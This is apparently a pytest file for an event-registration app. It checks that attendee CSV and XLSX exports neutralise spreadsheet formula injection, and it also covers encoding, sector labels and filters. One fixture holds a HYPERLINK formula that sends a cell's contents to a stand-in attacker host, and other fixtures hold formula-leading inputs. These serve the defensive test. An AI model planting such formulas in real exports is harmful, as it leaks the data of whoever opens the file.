"""Attendee exports: CSV (UTF-8 with BOM) and XLSX, neutralised against formula injection (K2)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from community.core.extensions import db
from events.models import EventQuestion, QuestionKind, RegistrationState
from events.organising.export import neutralise
from tests.events.organiser_helpers import register
from tests.pages_helpers import sign_in

FORMULA_NAME = '=HYPERLINK("https://attacker.example/?d="&A2;"klik")'
FORMULA_ORGANISATION = "@SUM(1+1)"
PHONE = "+32 470 00 00 00"
REMARK = 'Graag "vegetarisch", geen noten'


@pytest.fixture
def k2_event(client, make_region, make_event, make_user):
    """An activity with the inputs of case K2, and its coordinator signed in."""
    region = make_region()
    event = make_event(region=region, title="Studiedag: één stap verder")
    phone = EventQuestion(event=event, label="Telefoonnummer", kind=QuestionKind.TEXT, position=1)
    remark = EventQuestion(event=event, label="Opmerking", kind=QuestionKind.TEXT, position=2)
    diet = EventQuestion(event=event, label="Vegetarisch?", kind=QuestionKind.YES_NO, position=3)
    db.session.add_all([phone, remark, diet])
    db.session.commit()
    register(
        event,
        name=FORMULA_NAME,
        organisation_name=FORMULA_ORGANISATION,
        job_title="-leerkracht",
        answers={str(phone.id): PHONE, str(remark.id): REMARK, str(diet.id): True},
    )
    register(
        event,
        name="Zoë Vercruyssen-Dewaële",
        organisation_name="\tCLB Brugge",
        job_title="\rdirecteur",
        answers={str(remark.id): "Tot dan"},
    )
    register(event, RegistrationState.CANCELLED, name="Geannuleerd Persoon")
    sign_in(client, make_user("coordinator", regions=[region]))
    return event


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+32 470", "'+32 470"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Zoë", "Zoë"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_start_like_a_formula_get_an_apostrophe(value, expected):
    assert neutralise(value) == expected


def test_csv_export_is_utf8_with_bom_and_neutralises_k2_inputs(client, k2_event):
    response = client.get(f"/beheer/activiteiten/{k2_event.slug}/deelnemers.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    header, first, second = rows[0], rows[1], rows[2]
    assert len(rows) == 3  # the cancelled registration is not listed
    assert header[:3] == ["Naam", "E-mailadres", "Organisatie"]
    assert header[-3:] == ["Telefoonnummer", "Opmerking", "Vegetarisch?"]
    assert first[0] == "'" + FORMULA_NAME
    assert first[2] == "'" + FORMULA_ORGANISATION
    assert first[4] == "'-leerkracht"
    assert first[-3:] == ["'" + PHONE, REMARK, "ja"]
    assert second[0] == "Zoë Vercruyssen-Dewaële"
    assert second[2] == "'\tCLB Brugge"
    assert second[4] == "'\rdirecteur"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_export_neutralises_k2_inputs_and_keeps_accents(client, k2_event):
    response = client.get(f"/beheer/activiteiten/{k2_event.slug}/deelnemers.xlsx")

    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    assert sheet.title == "Studiedag  één stap verder"
    assert rows[1][0] == "'" + FORMULA_NAME
    assert rows[1][2] == "'" + FORMULA_ORGANISATION
    assert rows[1][-3:] == ["'" + PHONE, REMARK, "ja"]
    assert rows[2][0] == "Zoë Vercruyssen-Dewaële"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_downloads_name_their_content_type_once(client, k2_event):
    csv_response = client.get(f"/beheer/activiteiten/{k2_event.slug}/deelnemers.csv")
    xlsx_response = client.get(f"/beheer/activiteiten/{k2_event.slug}/deelnemers.xlsx")

    assert csv_response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert xlsx_response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )


SECTOR_LABELS = {
    "nl": {
        "onderwijs": "onderwijs",
        "welzijn": "welzijn/jeugdhulp",
        "ggz": "geestelijke gezondheidszorg",
        "werk": "werk",
        "lokaal_bestuur": "lokaal bestuur",
        "justitie": "justitie/politie",
        "overheid": "overheid",
        "": "",
    },
    "en": {
        "onderwijs": "education",
        "welzijn": "welfare/youth care",
        "ggz": "mental health care",
        "werk": "employment",
        "lokaal_bestuur": "local government",
        "justitie": "justice/police",
        "overheid": "government",
        "": "",
    },
}


@pytest.mark.parametrize("language", ["nl", "en"])
def test_exports_show_the_sector_label_in_the_exports_language(
    client, make_event, make_region, make_user, language
):
    region = make_region()
    event = make_event(region=region)
    for code in SECTOR_LABELS["nl"]:
        register(event, name=f"Sector {code or 'geen'}", sector=code)
    sign_in(client, make_user("coordinator", regions=[region], locale=language))
    expected = {
        f"Sector {code or 'geen'}": label for code, label in SECTOR_LABELS[language].items()
    }

    data = client.get(f"/beheer/activiteiten/{event.slug}/deelnemers.csv").get_data()
    csv_rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    workbook = client.get(f"/beheer/activiteiten/{event.slug}/deelnemers.xlsx").get_data()
    sheet = load_workbook(io.BytesIO(workbook)).active
    xlsx_rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]

    for rows in (csv_rows, xlsx_rows):
        assert rows[0][3] == "Sector"
        assert {row[0]: row[3] for row in rows[1:]} == expected


def test_export_follows_the_list_filters(client, k2_event):
    response = client.get(f"/beheer/activiteiten/{k2_event.slug}/deelnemers.csv?status=cancelled")

    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["Geannuleerd Persoon"]


def test_export_with_an_unknown_filter_is_a_bad_request(client, k2_event):
    response = client.get(f"/beheer/activiteiten/{k2_event.slug}/deelnemers.csv?status=vip")

    assert response.status_code == 400
    assert "Ongeldige filter „status”" in response.get_data(as_text=True)
